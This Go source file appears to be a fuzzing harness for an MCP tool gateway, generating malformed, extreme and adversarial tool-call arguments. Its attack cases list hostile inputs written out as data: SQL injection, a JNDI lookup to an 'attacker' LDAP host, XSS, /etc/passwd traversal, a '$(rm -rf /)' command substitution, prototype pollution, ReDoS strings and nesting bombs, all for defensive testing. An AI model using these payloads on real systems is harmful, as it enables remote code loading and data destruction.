// Package harness generates adversarial tool invocations and drives them
// through the guard, the normalizer and the dispatcher.
package harness

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"sort"
	"strings"

	"github.com/tb0hdan/toolgate-mcp/pkg/types"
)

type Category string

const (
	CategoryProtocol  Category = "protocol"
	CategoryValidator Category = "validator"
	CategoryHandler   Category = "handler"
	CategoryMalformed Category = "malformed"
	CategoryExtremes  Category = "extremes"
	CategoryAttack    Category = "attack"
)

// Categories lists every category in generation order.
var Categories = []Category{
	CategoryProtocol,
	CategoryValidator,
	CategoryHandler,
	CategoryMalformed,
	CategoryExtremes,
	CategoryAttack,
}

// DefaultPerCategory yields a corpus of 10,200 cases.
const DefaultPerCategory = 1700

// Case is one generated input. Payload is set for handler-shaped cases and
// is what the hostile tool returns and the normalizer receives.
type Case struct {
	ID        int      `json:"id" yaml:"id"`
	Category  Category `json:"category" yaml:"category"`
	Name      string   `json:"name" yaml:"name"`
	Tool      string   `json:"tool" yaml:"tool"`
	Arguments []byte   `json:"-" yaml:"-"`
	Payload   any      `json:"-" yaml:"-"`
}

// Corpus generates cases on demand. Case i depends only on the seed and i.
type Corpus struct {
	seed        int64
	perCategory int
}

func NewCorpus(seed int64, perCategory int) *Corpus {
	if perCategory <= 0 {
		perCategory = DefaultPerCategory
	}
	return &Corpus{seed: seed, perCategory: perCategory}
}

func (c *Corpus) Seed() int64 { return c.seed }

func (c *Corpus) Size() int {
	return c.perCategory * len(Categories)
}

// Case builds case i, 0 <= i < Size().
func (c *Corpus) Case(i int) Case {
	rng := rand.New(rand.NewSource(c.seed*1_000_003 + int64(i))) //nolint:gosec
	cat := Categories[i%len(Categories)]
	tc := Case{ID: i, Category: cat}

	switch cat {
	case CategoryProtocol:
		tc.Name, tc.Tool, tc.Arguments = protocolCase(rng)
	case CategoryValidator:
		tc.Name, tc.Tool, tc.Arguments = validatorCase(rng)
	case CategoryHandler:
		variant := int64(rng.Intn(1 << 20))
		tc.Tool = HostileToolName
		tc.Arguments = []byte(fmt.Sprintf(`{"variant":%d}`, variant))
		tc.Name, tc.Payload = HostilePayload(variant)
	case CategoryMalformed:
		tc.Name, tc.Tool, tc.Arguments = malformedCase(rng)
	case CategoryExtremes:
		tc.Name, tc.Tool, tc.Arguments = extremesCase(rng)
	case CategoryAttack:
		tc.Name, tc.Tool, tc.Arguments = attackCase(rng)
	}
	return tc
}

var (
	toolNames    = []string{"context_store", "decision_record", "history", "project", "session"}
	contextTypes = []string{"code", "decision", "error", "discussion", "planning", "completion", "milestone"}
	words        = []string{"ledger", "guard", "scope", "envelope", "δοκιμή", "テスト", "😀", "tab\there", "quote\"d", "back\\slash", "nul\u0000byte"}
)

func pick[T any](rng *rand.Rand, items []T) T {
	return items[rng.Intn(len(items))]
}

func text(rng *rand.Rand, n int) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = pick(rng, words)
	}
	return strings.Join(parts, " ")
}

// sortedKeys fixes the iteration order so a case depends only on its seed.
func sortedKeys(m map[string]any) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

func mustMarshal(v any) []byte {
	data, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return data
}

func validArgs(rng *rand.Rand, tool string) map[string]any {
	switch tool {
	case "context_store":
		args := map[string]any{"content": text(rng, 1+rng.Intn(8))}
		if rng.Intn(2) == 0 {
			args["type"] = pick(rng, contextTypes)
		}
		if rng.Intn(2) == 0 {
			args["tags"] = []any{pick(rng, words), pick(rng, words)}
		}
		return args
	case "decision_record":
		return map[string]any{
			"title":     text(rng, 1+rng.Intn(4)),
			"rationale": text(rng, rng.Intn(12)),
			"status":    pick(rng, []string{"proposed", "accepted", "rejected", "superseded"}),
		}
	case "history":
		return map[string]any{"action": "list", "limit": rng.Intn(types.MaxHistoryLimit + 1), "offset": rng.Intn(5)}
	case "project":
		return map[string]any{"action": "list"}
	default:
		return map[string]any{"action": pick(rng, []string{"status", "stats"})}
	}
}

func protocolCase(rng *rand.Rand) (string, string, []byte) {
	tool := pick(rng, toolNames)
	args := validArgs(rng, tool)
	data := mustMarshal(args)

	switch rng.Intn(5) {
	case 0:
		return "compact", tool, data
	case 1:
		var buf bytes.Buffer
		_ = json.Indent(&buf, data, "", "\t")
		return "indented", tool, buf.Bytes()
	case 2:
		return "padded", tool, append(append([]byte(" \r\n\t"), data...), []byte("\n\n ")...)
	case 3:
		// Escaped non-ASCII survives as \uXXXX sequences.
		return "ascii-escaped", tool, []byte(asciiEscape(string(data)))
	default:
		optional := map[string]string{
			"context_store":   "tags",
			"decision_record": "rationale",
			"history":         "session_id",
		}
		field, ok := optional[tool]
		if !ok {
			return "minimal", "project", []byte(`{"action":"list"}`)
		}
		args[field] = nil
		return "null-optional", tool, mustMarshal(args)
	}
}

func asciiEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r < 0x80 {
			b.WriteRune(r)
			continue
		}
		if r > 0xFFFF {
			r -= 0x10000
			fmt.Fprintf(&b, `\u%04x\u%04x`, 0xD800+(r>>10), 0xDC00+(r&0x3FF))
			continue
		}
		fmt.Fprintf(&b, `\u%04x`, r)
	}
	return b.String()
}

func validatorCase(rng *rand.Rand) (string, string, []byte) {
	tool := pick(rng, toolNames)
	args := validArgs(rng, tool)

	var name string
	switch rng.Intn(10) {
	case 0:
		name = "missing-required"
		for _, k := range sortedKeys(args) {
			delete(args, k)
		}
	case 1:
		name = "wrong-type-number"
		for _, k := range sortedKeys(args) {
			args[k] = rng.Float64() * 1e6
		}
	case 2:
		name = "wrong-type-array"
		for _, k := range sortedKeys(args) {
			args[k] = []any{1, "two", nil}
		}
	case 3:
		name = "enum-violation"
		args["type"] = "interpretive-dance"
		args["action"] = "detonate"
		args["status"] = "maybe"
	case 4:
		name = "string-too-long"
		args["content"] = strings.Repeat("x", 65537)
		args["title"] = strings.Repeat("t", 256)
	case 5:
		name = "negative-bounds"
		args["limit"] = -1 - rng.Intn(100)
		args["offset"] = -rng.Intn(1000) - 1
		args["id"] = 0
	case 6:
		name = "unknown-fields"
		args[fmt.Sprintf("extra_%d", rng.Intn(1000))] = true
	case 7:
		name = "nulls"
		for _, k := range sortedKeys(args) {
			args[k] = nil
		}
	case 8:
		name = "float-for-integer"
		args["limit"] = 2.5
		args["input_tokens"] = 1e300
	default:
		name = "unknown-tool"
		tool = fmt.Sprintf("tool_%d", rng.Intn(1<<16))
	}
	return name, tool, mustMarshal(args)
}

func malformedCase(rng *rand.Rand) (string, string, []byte) {
	tool := pick(rng, toolNames)
	valid := mustMarshal(validArgs(rng, tool))

	switch rng.Intn(12) {
	case 0:
		return "truncated", tool, valid[:rng.Intn(len(valid))]
	case 1:
		return "unbalanced-open", tool, []byte(strings.Repeat("{", 1+rng.Intn(20)))
	case 2:
		return "unbalanced-close", tool, []byte(`{"a":1}}]`)
	case 3:
		return "trailing-comma", tool, []byte(`{"content":"x",}`)
	case 4:
		return "single-quotes", tool, []byte(`{'content':'x'}`)
	case 5:
		return "bad-escape", tool, []byte(`{"content":"\q\u12"}`)
	case 6:
		return "nan-literal", tool, []byte(`{"limit":NaN,"offset":Infinity}`)
	case 7:
		return "comments", tool, []byte(`{/* c */"content":"x"}`)
	case 8:
		return "bom", tool, append([]byte{0xEF, 0xBB, 0xBF}, valid...)
	case 9:
		return "control-chars", tool, []byte("{\"content\":\"a\x01\x02b\"}")
	case 10:
		return "concatenated", tool, append(append([]byte{}, valid...), valid...)
	default:
		garbage := make([]byte, 1+rng.Intn(256))
		rng.Read(garbage)
		return "random-bytes", tool, garbage
	}
}

func nested(open, close string, depth int, leaf string) []byte {
	var b bytes.Buffer
	b.Grow(depth*(len(open)+len(close)) + len(leaf))
	for i := 0; i < depth; i++ {
		b.WriteString(open)
	}
	b.WriteString(leaf)
	for i := 0; i < depth; i++ {
		b.WriteString(close)
	}
	return b.Bytes()
}

func extremesCase(rng *rand.Rand) (string, string, []byte) {
	tool := pick(rng, toolNames)

	switch rng.Intn(10) {
	case 0:
		depth := types.MaxNestingDepth + rng.Intn(100_000)
		return "deep-arrays", tool, append(append([]byte(`{"content":`), nested("[", "]", depth, "1")...), '}')
	case 1:
		depth := 1 + rng.Intn(types.MaxNestingDepth-2)
		return "deep-objects-within-limit", tool, append(append([]byte(`{"tags":`), nested(`{"a":`, "}", depth, "1")...), '}')
	case 2:
		if rng.Intn(40) == 0 {
			return "oversize", tool, append(append([]byte(`{"content":"`), bytes.Repeat([]byte("A"), types.MaxPayloadBytes)...), []byte(`"}`)...)
		}
		return "large-string", tool, mustMarshal(map[string]any{"content": strings.Repeat("B", 1<<(10+rng.Intn(10)))})
	case 3:
		return "invalid-utf8", tool, []byte("{\"content\":\"\xc3\x28\xa0\xa1\xff\"}")
	case 4:
		return "overlong-utf8", tool, []byte("{\"content\":\"\xc0\xaf\xe0\x80\xaf\"}")
	case 5:
		return "lone-surrogate", tool, []byte(`{"content":"𐏿\udc00"}`)
	case 6:
		keys := make(map[string]any, 5000)
		for i := 0; i < 5000; i++ {
			keys[fmt.Sprintf("k%d", i)] = i
		}
		return "many-keys", tool, mustMarshal(keys)
	case 7:
		items := make([]any, 10_000+rng.Intn(50_000))
		for i := range items {
			items[i] = i
		}
		return "huge-array", tool, mustMarshal(map[string]any{"tags": items})
	case 8:
		return "huge-numbers", tool, []byte(`{"limit":1e999,"offset":-1e999,"id":123456789012345678901234567890}`)
	default:
		return "empty", tool, nil
	}
}

var injections = []string{
	`'; DROP TABLE sessions; --`,
	`" OR 1=1 --`,
	`{{7*7}}`,
	`${jndi:ldap://attacker/a}`,
	`<script>alert(1)</script>`,
	`../../../../etc/passwd`,
	"\u0000\u0000",
	`$(rm -rf /)`,
	`%s%s%s%n`,
	"‮⁦override",
}

func attackCase(rng *rand.Rand) (string, string, []byte) {
	tool := pick(rng, toolNames)
	args := validArgs(rng, tool)

	switch rng.Intn(7) {
	case 0:
		return "proto-top-level", tool, []byte(`{"__proto__":{"isAdmin":true},"content":"x","action":"list","title":"t"}`)
	case 1:
		key := pick(rng, []string{"__proto__", "constructor", "prototype"})
		inner := fmt.Sprintf(`{%q:{"polluted":true}}`, key)
		depth := 1 + rng.Intn(30)
		return "proto-nested", tool, append(append([]byte(`{"tags":`), nested(`[`, `]`, depth, inner)...), '}')
	case 2:
		return "proto-escaped", tool, []byte(`{"\u005f_proto__":{"x":1},"content":"x","tags":[{"constr\u0075ctor":{}}]}`)
	case 3:
		for _, k := range sortedKeys(args) {
			if _, ok := args[k].(string); ok {
				args[k] = pick(rng, injections)
			}
		}
		return "injection-strings", tool, mustMarshal(args)
	case 4:
		// Inputs that would backtrack catastrophically in a naive regex engine.
		evil := strings.Repeat("a", 5000+rng.Intn(50_000)) + "!"
		return "redos", tool, mustMarshal(map[string]any{"content": evil, "title": "(a+)+$", "action": evil})
	case 5:
		return "duplicate-keys", tool, []byte(`{"content":"x","content":{"__proto__":1},"action":"list","action":"clear"}`)
	default:
		depth := 100_000 + rng.Intn(900_000)
		return "nesting-bomb", tool, nested("[", "]", depth, "")
	}
}
